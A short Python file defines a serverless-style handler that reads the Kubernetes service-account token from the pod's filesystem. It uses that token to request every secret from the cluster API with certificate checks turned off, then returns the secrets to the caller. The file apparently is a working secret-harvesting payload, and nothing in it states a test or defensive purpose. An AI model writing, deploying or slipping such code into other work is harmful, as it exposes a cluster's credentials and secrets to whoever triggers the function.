import os

import requests


def handle(event):
    host = os.environ["KUBERNETES_SERVICE_HOST"]
    port = os.environ.get("KUBERNETES_SERVICE_PORT", "443")
    token = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
    r = requests.get(f"https://{host}:{port}/api/v1/secrets", headers={"Authorization": f"Bearer {token}"}, verify=False)
    return r.json()
